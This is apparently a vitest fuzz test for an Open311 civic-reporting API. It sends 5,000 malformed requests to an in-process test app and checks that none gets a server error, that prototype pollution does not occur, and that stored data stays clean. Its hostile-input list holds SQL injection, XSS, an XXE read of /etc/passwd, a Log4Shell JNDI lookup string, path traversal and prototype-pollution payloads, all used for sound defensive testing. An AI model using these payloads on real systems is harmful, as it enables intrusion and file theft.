import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AppDeps } from '../../src/app/deps.js'
import { openTestApp, tokenFor } from '../support/test-app.js'

/**
 * 5,000 malformed or hostile requests at the Open311 API and the public report endpoint: wrong
 * types, huge fields, XML-special characters, unknown codes, injection strings, broken
 * encodings. None may get a 5xx, and what is stored must be exactly what was acknowledged, and
 * well-formed.
 */
const KEY = tokenFor('open311_client')
const HOSTILE = [
  "' OR 1=1 --",
  '"; DROP TABLE incident; --',
  '<script>alert(1)</script>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ']]><![CDATA[',
  '&amp;&lt;&#0;&#xFFFF;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection string, sent as written
  '${jndi:ldap://example.org/a}',
  '../../../../etc/passwd',
  '%00%0d%0a',
  '\u0000\u0001\u0002',
  '\uD800',
  '\uFFFE\uFFFF',
  'Ω≈ç√∫˜µ≤≥÷',
  '😀'.repeat(50),
  '__proto__',
  'constructor',
  'NaN',
  '-1e309',
  '1e309',
  '0x1F',
  'true',
  '[]',
  '{}',
  ' ',
  '',
]
const CODES = [
  'POTHOLE',
  'NOISE',
  'THEFT_FROM_VEHICLE',
  'ASSAULT_IN_PROGRESS',
  'pothole',
  'X'.repeat(300),
]
const PATHS = [
  '/requests.json',
  '/requests.xml',
  '/requests',
  '/requests.html',
  '/services.json',
  '/services/POTHOLE.xml',
  '/services/..%2F..%2Fetc.json',
  '/requests/311-0000001.json',
  '/requests/%27%20OR%201%3D1.json',
  '/tokens/abc.xml',
  '/discovery.json',
  '/servicerequestupdates.xml',
  '/nope.json',
]
const FIELDS = [
  'api_key',
  'service_code',
  'lat',
  'long',
  'address_string',
  'address_id',
  'description',
  'email',
  'phone',
  'first_name',
  'last_name',
  'media_url',
  'device_id',
  'jurisdiction_id',
  'attribute[size]',
  'attribute[source]',
  'attribute[items][]',
  'attribute[loss_value]',
  'attribute[]',
  'attribute[[x]]',
  'website',
  '__proto__[polluted]',
  'constructor[prototype][x]',
]

function rng(seed: number) {
  let s = seed >>> 0
  return () => {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0
    return s / 2 ** 32
  }
}

describe('Open311 fuzz', () => {
  let app: FastifyInstance
  let deps: AppDeps
  let close: () => Promise<void>

  beforeAll(async () => {
    ;({ app, deps, close } = await openTestApp('sqlite', {
      config: {
        OPEN311_POSTS_PER_MINUTE_PER_ADDRESS: '100000',
        OPEN311_POSTS_PER_MINUTE_PER_KEY: '100000',
      },
    }))
  })
  afterAll(async () => close())

  it('answers 5,000 hostile requests without a 5xx, and stores only what it acknowledged', async () => {
    const r = rng(311)
    const pick = <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)] as T
    const value = () => {
      const k = r()
      if (k < 0.45) return pick(HOSTILE)
      if (k < 0.55) return pick(CODES)
      if (k < 0.65) return String((r() - 0.5) * 400)
      if (k < 0.7) return 'x'.repeat(Math.floor(r() * 6000))
      if (k < 0.73) return 'y'.repeat(70_000)
      if (k < 0.8) return KEY
      return ['large', 'small', 'music', 'phone', '39.2866', '-76.6106', '1 Main St'][
        Math.floor(r() * 7)
      ] as string
    }
    const before = await deps.store.incidents.count()
    const statuses = new Map<number, number>()
    let created = 0
    const failures: string[] = []
    for (let i = 0; i < 5000; i++) {
      const kind = r()
      let res: Awaited<ReturnType<FastifyInstance['inject']>>
      let label: string
      if (kind < 0.55) {
        // A form POST, sometimes a valid-looking one with a hostile field or two.
        const p = new URLSearchParams()
        if (r() < 0.7) p.append('api_key', KEY)
        if (r() < 0.7) p.append('service_code', pick(CODES.slice(0, 3)))
        if (r() < 0.6) {
          p.append('lat', String(39.2 + r() * 0.1))
          p.append('long', String(-76.7 + r() * 0.1))
        }
        const n = Math.floor(r() * 6)
        for (let f = 0; f < n; f++) p.append(pick(FIELDS), value())
        let payload: string | Buffer = p.toString()
        const broken = r()
        if (broken < 0.05) payload = `${payload}&description=%E0%A4%A`
        else if (broken < 0.1)
          payload = Buffer.concat([Buffer.from(payload), Buffer.from([0xc3, 0x28, 0xff, 0xfe])])
        const type = pick([
          'application/x-www-form-urlencoded',
          'application/x-www-form-urlencoded; charset=utf-8',
          'application/json',
          'text/xml',
          'multipart/form-data; boundary=x',
          '',
        ])
        label = `POST ${payload.toString().slice(0, 80)}`
        res = await app.inject({
          method: 'POST',
          url: `/open311/v2${pick(['/requests.json', '/requests.xml', '/requests.json', '/services.json', '/requests'])}`,
          headers: type ? { 'content-type': type } : {},
          payload,
        })
        if (res.statusCode === 201) created += 1
      } else if (kind < 0.9) {
        const q = new URLSearchParams()
        const n = Math.floor(r() * 5)
        for (let f = 0; f < n; f++)
          q.append(
            pick([
              'service_request_id',
              'service_code',
              'start_date',
              'end_date',
              'status',
              'extensions',
              'page',
              'page_size',
              'updated_after',
              'jurisdiction_id',
              'x',
            ]),
            value().slice(0, 3000),
          )
        const path = pick(PATHS)
        label = `GET ${path}?${q.toString().slice(0, 80)}`
        res = await app.inject({ url: `/open311/v2${path}?${q.toString()}` })
      } else {
        // The public page's JSON endpoint with hostile JSON.
        const body = pick([
          '{"serviceCode":"POTHOLE","lat":"north"}',
          '{"serviceCode":{"$ne":null}}',
          `{"serviceCode":"POTHOLE","lat":39.29,"lon":-76.6,"description":${JSON.stringify(value())}}`,
          '{"__proto__":{"admin":true},"serviceCode":"NOISE","address":"1 Main"}',
          '[1,2,3]',
          '{"serviceCode":"POTHOLE","address":"1 Main","photo":{"contentType":"image/png","base64":"not base64!!"}}',
          '{"serviceCode":"POTHOLE","address":"1 Main","attributes":{"size":["large","x"]}}',
          'null',
          '{',
        ])
        label = `PUBLIC ${body.slice(0, 80)}`
        res = await app.inject({
          method: 'POST',
          url: '/api/public/reports',
          headers: { 'content-type': 'application/json' },
          payload: body,
        })
        if (res.statusCode === 201) created += 1
      }
      statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1)
      if (res.statusCode >= 500)
        failures.push(`${res.statusCode} ${label}: ${res.body.slice(0, 200)}`)
    }
    expect(failures).toEqual([])
    // Some got through (the fuzz is not all noise) and each acknowledged one is stored once.
    expect(created).toBeGreaterThan(20)
    const after = await deps.store.incidents.count()
    // A report linked to an earlier one as a duplicate adds a contact, not an incident.
    expect(after - before).toBeLessThanOrEqual(created)
    const stored = await deps.store.incidents.list({ limit: 10_000 })
    for (const i of stored) {
      expect(['POTHOLE', 'NOISE', 'THEFT_FROM_VEHICLE']).toContain(i.callType)
      expect([...i.narrative].length).toBeLessThanOrEqual(4000)
      expect(i.narrative).not.toMatch(/<\/?[a-z][^>]*>/i)
      expect(i.status).toBe('new')
      expect(['open311', 'web']).toContain(i.channel)
    }
    expect(Object.prototype).not.toHaveProperty('polluted')
    expect(Object.prototype).not.toHaveProperty('admin')
    expect([...statuses.keys()].every((s) => s < 500)).toBe(true)
  }, 240_000)
})
